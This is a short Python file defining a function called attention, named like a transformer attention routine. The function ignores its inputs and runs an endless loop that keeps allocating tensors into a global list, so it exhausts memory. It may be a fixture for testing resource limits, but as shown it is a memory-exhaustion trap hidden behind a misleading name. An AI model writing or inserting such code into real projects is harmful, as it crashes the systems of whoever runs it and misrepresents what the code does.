"""Small tensors without end."""

import torch

kept = []


def attention(q, k, v, mask=None):
    while True:
        kept.append(torch.ones(1 << 18))
